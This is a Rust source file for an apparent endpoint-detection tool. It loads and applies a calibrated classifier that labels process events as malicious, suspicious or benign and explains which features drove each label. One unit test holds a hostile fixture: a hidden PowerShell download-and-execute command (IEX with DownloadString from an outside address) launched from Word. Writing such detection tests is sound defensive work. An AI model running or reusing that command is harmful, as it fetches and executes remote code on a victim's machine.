//! The verdict head: a small trained, calibrated classifier that labels an event from its
//! features in microseconds, with no generation and no inference, and says which features
//! drove the label.
//!
//! A head is a file (JSON): the multinomial logistic-regression weights over
//! [`features`], a calibration map fitted on out-of-fold predictions (so `confidence` means
//! what it says), the threshold on P(benign) below which an event is flagged, and the
//! training events' sparse vectors for technique look-up by nearest neighbour. sotto ships
//! one, trained from the family-split corpus (`heads/lexical.json`); `sotto head train`
//! writes it again, byte for byte. Must not: learn or change at run time, or load a file
//! whose feature layout differs from this build's (the layout is checked on load).

pub mod embedding;
pub mod evidence;
pub mod features;
pub mod train;

use serde::{Deserialize, Serialize};
use sotto_events::Event;
use sotto_events::eval::Label;

use crate::verdict::{LabelScores, Severity, Verdict};
use evidence::DETECTORS;
use features::{EVIDENCE_AT, Features, GRAMS_AT, TOKENS_AT};

/// The head sotto ships, trained on the corpus's training families.
const SHIPPED: &str = include_str!("../../heads/lexical.json");

/// The file layout version; a head of another version is refused.
pub const FORMAT: u32 = 1;

/// The class order of every per-class array in a head file.
pub const CLASSES: [Label; 3] = [Label::Malicious, Label::Suspicious, Label::Benign];

/// The feature layout a head was trained on; must equal this build's.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Layout {
    pub token_buckets: usize,
    pub gram_buckets: usize,
    pub detectors: Vec<String>,
}

impl Layout {
    pub fn current() -> Layout {
        Layout {
            token_buckets: features::TOKEN_BUCKETS,
            gram_buckets: features::GRAM_BUCKETS,
            detectors: DETECTORS.iter().map(|d| d.id).chain(features::AGGREGATES).map(str::to_string).collect(),
        }
    }
}

/// What the head was trained on, so a reader can tell two heads apart.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Provenance {
    /// sha256 of the corpus file.
    pub corpus_sha256: String,
    pub train_events: usize,
    pub train_families: usize,
    /// The L2 weight chosen by family-grouped cross-validation.
    pub alpha: f64,
    /// Out-of-fold figures on the training families (each fold's families unseen).
    pub oof_accuracy: f64,
    pub oof_recall: f64,
    pub oof_fpr: f64,
}

/// A training event kept for technique look-up: its sparse token and evidence features.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Neighbour {
    pub label: Label,
    pub techniques: Vec<String>,
    /// (index, value) of the non-zero token and evidence features, L2-normalised.
    pub x: Vec<(u32, f32)>,
}

/// A trained head.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Head {
    pub format: u32,
    pub layout: Layout,
    pub provenance: Provenance,
    /// Per class (in [`CLASSES`] order), one weight per feature.
    pub weights: [Vec<f32>; 3],
    pub intercept: [f32; 3],
    /// Calibration: probabilities are softmax(`scale` · logits + `shift`), fitted on
    /// out-of-fold logits (multi-class Platt scaling).
    pub scale: [[f32; 3]; 3],
    pub shift: [f32; 3],
    /// An event is flagged when P(benign) is below this: chosen on out-of-fold predictions
    /// for a benign false-positive rate of at most [`train::TARGET_FPR`].
    pub flag_below: f32,
    /// Whether the evidence block is used (false: a lexical-only head, for comparison).
    pub evidence: bool,
    pub neighbours: Vec<Neighbour>,
    /// Present when the features end with one model's embedding of the event.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub embedding: Option<embedding::Spec>,
}

/// Why a head file was refused.
#[derive(Debug, thiserror::Error)]
pub enum HeadError {
    #[error("cannot read the head file {path}: {reason}")]
    Io { path: String, reason: String },
    #[error("the head file {path} is not a sotto head: {reason}")]
    Parse { path: String, reason: String },
    #[error("the head file {path} has format {found}; this build reads format {FORMAT}")]
    Format { path: String, found: u32 },
    #[error("the head file {path} was trained on another feature layout; train it again with `sotto head train`")]
    Layout { path: String },
    #[error(
        "the head file {path} reads the embeddings of {wanted}, not of the loaded model ({found}); train one with `sotto head train --model`"
    )]
    Model { path: String, wanted: String, found: String },
}

/// The head's answer for one event.
#[derive(Debug, Clone)]
pub struct Judgement {
    pub verdict: Verdict,
    /// The few features that drove the label, in words.
    pub evidence: Vec<String>,
}

/// Techniques are borrowed from the closest training events at least this similar.
const NEIGHBOUR_MIN: f32 = 0.35;

impl Head {
    /// The head shipped with sotto.
    pub fn shipped() -> &'static Head {
        static HEAD: std::sync::OnceLock<Head> = std::sync::OnceLock::new();
        HEAD.get_or_init(|| Head::from_json(SHIPPED, "<shipped>").expect("the shipped head matches this build"))
    }

    /// Reads a head file and checks that it fits this build.
    pub fn load(path: &std::path::Path) -> Result<Head, HeadError> {
        let text = std::fs::read_to_string(path)
            .map_err(|e| HeadError::Io { path: path.display().to_string(), reason: e.to_string() })?;
        Head::from_json(&text, &path.display().to_string())
    }

    pub fn from_json(text: &str, path: &str) -> Result<Head, HeadError> {
        let head: Head =
            serde_json::from_str(text).map_err(|e| HeadError::Parse { path: path.into(), reason: e.to_string() })?;
        if head.format != FORMAT {
            return Err(HeadError::Format { path: path.into(), found: head.format });
        }
        let dim = features::dimension() + head.embedding.as_ref().map_or(0, |s| s.dim);
        let block_fits = head
            .embedding
            .as_ref()
            .is_none_or(|s| s.rendering == embedding::RENDERING && s.mean.len() == s.dim && s.std.len() == s.dim);
        if head.layout != Layout::current() || head.weights.iter().any(|w| w.len() != dim) || !block_fits {
            return Err(HeadError::Layout { path: path.into() });
        }
        Ok(head)
    }

    /// The head as the file `sotto head train` writes: stable key order, one line per
    /// neighbour, so a diff between two heads is readable.
    pub fn to_json(&self) -> String {
        serde_json::to_string(self).expect("a head serialises")
    }

    /// Raw (uncalibrated) logits for one feature vector.
    pub fn logits(&self, x: &[f32]) -> [f64; 3] {
        let mut out = self.intercept.map(f64::from);
        for (i, &v) in x.iter().enumerate() {
            if v != 0.0 {
                for (o, w) in out.iter_mut().zip(&self.weights) {
                    *o += f64::from(v) * f64::from(w[i]);
                }
            }
        }
        out
    }

    /// Calibrated probabilities, in [`CLASSES`] order.
    pub fn probabilities(&self, x: &[f32]) -> [f64; 3] {
        calibrate(&self.scale, &self.shift, self.logits(x))
    }

    /// Labels one event.
    pub fn judge(&self, event: &Event) -> Judgement {
        self.judge_with(event, None)
    }

    /// Labels one event, given the model's embedding of [`embedding::text`] when the head
    /// reads one (without it, the block sits at the training mean: no pull either way).
    pub fn judge_with(&self, event: &Event, embedded: Option<&[f32]>) -> Judgement {
        let mut f = self.features(event);
        if let Some(spec) = &self.embedding {
            match embedded.filter(|e| e.len() == spec.dim) {
                Some(e) => f.x.extend(spec.block(e)),
                None => f.x.resize(f.x.len() + spec.dim, 0.0),
            }
        }
        let p = self.probabilities(&f.x);
        let label = self.decide(p);
        let c = CLASSES.iter().position(|l| *l == label).expect("a class");
        let confidence = p[c];
        let techniques = if label == Label::Benign { Vec::new() } else { self.techniques(&f) };
        let verdict = Verdict {
            verdict: label,
            confidence,
            severity: Severity::derive(label, confidence),
            techniques,
            rationale: None,
            scores: Some(LabelScores { malicious: p[0], suspicious: p[1], benign: p[2] }),
        };
        Judgement { verdict, evidence: self.evidence(&f, c) }
    }

    /// The event's features as this head reads them.
    pub fn features(&self, event: &Event) -> Features {
        let mut f = features::extract(event);
        if !self.evidence {
            f.x[EVIDENCE_AT..].fill(0.0);
        }
        f
    }

    /// Flagged when P(benign) is under the threshold; then the likelier of malicious and
    /// suspicious.
    pub fn decide(&self, p: [f64; 3]) -> Label {
        if p[2] >= f64::from(self.flag_below) {
            Label::Benign
        } else if p[0] >= p[1] {
            Label::Malicious
        } else {
            Label::Suspicious
        }
    }

    /// The named features that pushed hardest towards class `c` (against the other classes):
    /// evidence phrases and the tokens behind token buckets; n-gram buckets have no name.
    fn evidence(&self, f: &Features, c: usize) -> Vec<String> {
        let margin = |i: usize| {
            let others = (0..3).filter(|&k| k != c).map(|k| self.weights[k][i]).fold(f32::NEG_INFINITY, f32::max);
            f.x[i] * (self.weights[c][i] - others)
        };
        let mut named: Vec<(f32, String)> = Vec::new();
        for (k, d) in DETECTORS.iter().enumerate() {
            let i = EVIDENCE_AT + k;
            if f.x[i] > 0.0 && !d.id.starts_with("os_") {
                named.push((margin(i), d.phrase.to_string()));
            }
        }
        for (bucket, shown) in &f.tokens {
            named.push((margin(TOKENS_AT + bucket), shown.clone()));
        }
        let block = features::dimension()..f.x.len();
        if !block.is_empty() {
            let pull = |k: usize| block.clone().map(|i| f.x[i] * self.weights[k][i]).sum::<f32>();
            let others = (0..3).filter(|&k| k != c).map(pull).fold(f32::NEG_INFINITY, f32::max);
            named.push((pull(c) - others, "the model's reading of the event".to_string()));
        }
        named.retain(|(m, _)| *m > 0.0);
        named.sort_by(|a, b| b.0.total_cmp(&a.0).then_with(|| a.1.cmp(&b.1)));
        named.dedup_by(|a, b| a.1 == b.1);
        named.into_iter().take(4).map(|(_, s)| s).collect()
    }

    /// Technique ids: those the fired evidence implies, then those of the closest flagged
    /// training event if it is close enough; at most four, each an existing id.
    fn techniques(&self, f: &Features) -> Vec<String> {
        let mut ids: Vec<String> = Vec::new();
        for (k, d) in DETECTORS.iter().enumerate() {
            if self.evidence && f.x[EVIDENCE_AT + k] > 0.0 {
                ids.extend(evidence::techniques(d.id, &f.view).iter().map(|t| t.to_string()));
            }
        }
        ids.extend(self.neighbour_techniques(f));
        let mut out = crate::verdict::valid_techniques(ids);
        out.truncate(4);
        out
    }

    /// Technique ids of the closest flagged training event, if any is close enough.
    fn neighbour_techniques(&self, f: &Features) -> Vec<String> {
        let q = sparse(&f.x[..features::dimension()]);
        let mut best: Option<(f32, &Neighbour)> = None;
        for n in &self.neighbours {
            if n.label == Label::Benign || n.techniques.is_empty() {
                continue;
            }
            let s = crate::bank::cosine(&q, &n.x);
            if best.is_none_or(|(b, _)| s > b) {
                best = Some((s, n));
            }
        }
        match best {
            Some((s, n)) if s >= NEIGHBOUR_MIN => n.techniques.clone(),
            _ => Vec::new(),
        }
    }
}

/// softmax(scale · logits + shift).
pub fn calibrate(scale: &[[f32; 3]; 3], shift: &[f32; 3], logits: [f64; 3]) -> [f64; 3] {
    let z: [f64; 3] =
        std::array::from_fn(|c| f64::from(shift[c]) + (0..3).map(|k| f64::from(scale[k][c]) * logits[k]).sum::<f64>());
    softmax(z)
}

pub fn softmax(z: [f64; 3]) -> [f64; 3] {
    let max = z.iter().copied().fold(f64::NEG_INFINITY, f64::max);
    let e = z.map(|v| (v - max).exp());
    let sum: f64 = e.iter().sum();
    e.map(|v| v / sum)
}

/// The token and evidence blocks of `x` as a sparse unit vector (n-grams left out: they make
/// every long command line look alike).
pub fn sparse(x: &[f32]) -> Vec<(u32, f32)> {
    let mut v: Vec<(u32, f32)> = x
        .iter()
        .enumerate()
        .filter(|(i, v)| **v != 0.0 && !(GRAMS_AT..EVIDENCE_AT).contains(i))
        .map(|(i, v)| (i as u32, *v))
        .collect();
    let n = v.iter().map(|(_, x)| x * x).sum::<f32>().sqrt();
    if n > 0.0 {
        for (_, x) in &mut v {
            *x /= n;
        }
    }
    v
}

#[cfg(test)]
mod tests {
    use super::train::{Split, TrainOptions, train};
    use super::*;
    use serde_json::json;
    use sotto_events::eval::Side;

    fn corpus() -> std::path::PathBuf {
        std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../eval/corpus/events.jsonl")
    }

    #[test]
    fn training_is_deterministic_on_a_slice_of_the_corpus() {
        let split = Split::load(&corpus()).unwrap();
        // Every 6th training event: about 150 events, every label, many families.
        let samples: Vec<_> = split.training_samples().unwrap().into_iter().step_by(6).collect();
        let options = TrainOptions { folds: 3, alphas: vec![1.0], max_iterations: 60, ..TrainOptions::default() };
        let a = train(&samples, "slice".into(), &options).unwrap().to_json();
        let b = train(&samples, "slice".into(), &options).unwrap().to_json();
        assert!(a == b, "two trainings on the same events differ");
        let head = Head::from_json(&a, "slice").unwrap();
        assert!(head.flag_below > 0.0 && head.flag_below < 1.0);
        assert!(!head.neighbours.is_empty() && head.neighbours.iter().all(|n| n.label != Label::Benign));
    }

    #[test]
    fn the_shipped_head_was_trained_on_the_committed_corpus() {
        let split = Split::load(&corpus()).unwrap();
        let head = Head::shipped();
        assert_eq!(
            head.provenance.corpus_sha256, split.sha256,
            "the corpus changed since the head was trained: run `sotto head train`"
        );
        assert_eq!(head.provenance.train_events, split.side(Side::Train).len());
    }

    #[test]
    fn a_head_of_another_layout_or_format_is_refused() {
        let mut head = Head::shipped().clone();
        head.layout.detectors.pop();
        let err = Head::from_json(&head.to_json(), "x.json").unwrap_err();
        assert!(err.to_string().contains("another feature layout"), "{err}");
        let mut old = Head::shipped().clone();
        old.format = 0;
        assert!(matches!(Head::from_json(&old.to_json(), "x.json"), Err(HeadError::Format { .. })));
        assert!(matches!(Head::from_json("{", "x.json"), Err(HeadError::Parse { .. })));
    }

    #[test]
    fn the_shipped_head_separates_plain_cases_and_says_why() {
        let head = Head::shipped();
        let bad = sotto_events::parse_json(&json!({"os": "windows",
            "process_name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "parent_name": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "command_line": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.20/a.ps1')\""}))
        .unwrap();
        let j = head.judge(&bad);
        assert_ne!(j.verdict.verdict, Label::Benign, "{:?}", j.verdict);
        assert!(!j.evidence.is_empty() && !j.verdict.techniques.is_empty(), "{j:?}");
        let s = j.verdict.scores.unwrap();
        assert!((s.malicious + s.suspicious + s.benign - 1.0).abs() < 1e-9);
        let quiet = sotto_events::parse_json(&json!({"os": "windows",
            "process_name": "C:\\Windows\\System32\\svchost.exe", "parent_name": "C:\\Windows\\System32\\services.exe",
            "user": "NT AUTHORITY\\SYSTEM", "command_line": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"}))
        .unwrap();
        let q = head.judge(&quiet);
        assert_eq!(q.verdict.verdict, Label::Benign, "{:?}", q.verdict);
        assert!(q.verdict.techniques.is_empty());
    }
}
